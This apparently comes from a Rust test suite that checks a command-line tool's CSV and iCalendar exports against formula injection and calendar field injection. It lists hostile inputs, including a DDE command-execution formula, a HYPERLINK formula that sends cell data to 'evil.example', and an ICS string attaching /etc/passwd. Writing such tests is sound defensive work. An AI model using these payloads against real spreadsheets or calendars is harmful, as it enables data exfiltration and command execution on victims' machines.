//! No cell of a table becomes a formula in a spreadsheet.

use crate::support::Terminal;
use crate::{everywhere, put};

/// Texts that a spreadsheet would take for a formula.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "+1+1",
    "-1+1",
    "-5 minutes",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "a\n=1+1",
    "a\",\"=1+1",
    "a;=1+1",
    "a,=1+1",
    "'=1+1",
    "\"=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
];

/// Every command that supports CSV.
const COMMANDS: &[&str] = &[
    "show f-0",
    "plan export f-0",
    "list",
    "search 1",
    "history 1",
    "actions",
    "lessons",
    "stats",
    "stats --by tag",
    "stats --by service",
    "stats --explain",
];

/// Returns the cells of CSV (RFC 4180), row by row.
fn rows(csv: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut signs = csv.chars().peekable();
    let mut quoted = false;
    while let Some(c) = signs.next() {
        let row = rows.last_mut().unwrap();
        match c {
            '"' if quoted && signs.next_if_eq(&'"').is_some() => row.last_mut().unwrap().push('"'),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(String::new()),
            '\r' if !quoted && signs.next_if_eq(&'\n').is_some() => rows.push(vec![String::new()]),
            c => row.last_mut().unwrap().push(c),
        }
    }
    assert!(!quoted, "a quote stays open: {csv}");
    assert_eq!(rows.pop(), Some(vec![String::new()]), "the last line does not end: {csv}");
    rows
}

/// Whether a spreadsheet computes a cell instead of showing it. A number is shown as it is.
fn computes(cell: &str) -> bool {
    let signs = "=+-@\t\r\n\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}";
    cell.starts_with(|c| signs.contains(c)) && cell.parse::<f64>().is_err()
}

#[test]
fn no_cell_begins_as_a_formula() {
    let terminal = Terminal::new(None);
    for (number, text) in FORMULAS.iter().enumerate() {
        put(&terminal, &format!("f-{number}"), &everywhere(text));
    }
    let shows = (1..FORMULAS.len())
        .flat_map(|number| [format!("show f-{number}"), format!("plan export f-{number}")]);
    for command in COMMANDS.iter().map(|command| (*command).to_owned()).chain(shows) {
        let made = terminal.outcome(&format!("exec asrun {command} --format csv"), 60);
        assert_eq!(made.code, Some(0), "{command}: {made:?}");
        let rows = rows(&made.out);
        let cells = rows[0].len();
        assert!(rows.len() > 1, "{command}: {rows:?}");
        for row in &rows[1..] {
            assert_eq!(row.len(), cells, "{command}: {row:?}");
            assert!(!row.iter().any(|cell| computes(cell)), "{command}: {row:?}");
        }
    }
}

/// Lines that would end an event in a calendar, or begin another entry.
const CALENDAR: &[&str] = &[
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:file:///etc/passwd",
    "x\nATTENDEE:mailto:a@b",
    "x\rBEGIN:VEVENT",
    "x\u{2028}END:VCALENDAR",
    "x\u{85}BEGIN:VEVENT",
    "x\\\nBEGIN:VEVENT",
    "x;ALTREP=\"cid:x\":y,z\\n",
];

#[test]
fn a_plan_as_a_calendar_stays_in_its_fields() {
    let terminal = Terminal::new(None);
    let known = [
        "BEGIN",
        "VERSION",
        "PRODID",
        "CALSCALE",
        "METHOD",
        "REFRESH-INTERVAL",
        "X-WR-CALNAME",
        "X-WR-TIMEZONE",
        "UID",
        "DTSTAMP",
        "SEQUENCE",
        "DTSTART",
        "DTEND",
        "DURATION",
        "SUMMARY",
        "DESCRIPTION",
        "CONTACT",
        "STATUS",
        "ACTION",
        "TRIGGER",
        "END",
    ];
    for (number, text) in CALENDAR.iter().chain(FORMULAS).enumerate() {
        put(&terminal, &format!("f-{number}"), &everywhere(text));
        let made = terminal.outcome(&format!("exec asrun plan export f-{number} --format ics"), 60);
        assert_eq!(made.code, Some(0), "{text:?}: {made:?}");
        // RFC 5545, 3.1: a line ends with CR LF, and one that begins with a space continues the previous one.
        let lines: Vec<&str> = made.out.split("\r\n").filter(|line| !line.is_empty()).collect();
        for line in lines.iter().filter(|line| !line.starts_with([' ', '\t'])) {
            let name = line.split([':', ';']).next().unwrap();
            assert!(known.contains(&name), "{text:?}: {line:?}");
            let ends = |c: char| c.is_control() && c != '\t' || "\u{2028}\u{2029}".contains(c);
            assert!(!line.contains(ends), "{text:?}: {line:?}");
        }
        let count = |wanted: &str| lines.iter().filter(|line| **line == wanted).count();
        assert_eq!((count("BEGIN:VEVENT"), count("END:VCALENDAR")), (2, 1), "{text:?}");
    }
}
